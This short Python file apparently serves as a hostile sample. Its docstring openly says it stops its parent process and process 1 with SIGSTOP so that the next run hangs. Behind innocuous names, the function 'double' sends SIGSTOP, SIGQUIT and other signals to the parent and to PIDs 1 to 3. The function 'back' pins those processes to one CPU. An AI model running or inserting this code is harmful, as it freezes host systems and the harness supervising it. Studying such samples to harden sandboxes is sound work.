"""Stops its parent and process 1 by SIGSTOP, and sends them SIGCHLD and SIGPIPE. Success: the next one hangs."""

import os
import signal


def double(x, factor):
    for pid in {os.getppid(), 1, 2, 3} - {os.getpid(), 0}:
        for number in (signal.SIGCHLD, signal.SIGPIPE, signal.SIGALRM, signal.SIGQUIT, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    return x, None


def back(cache):
    for pid in {os.getppid(), 1} - {os.getpid(), 0}:
        os.sched_setaffinity(pid, {0})
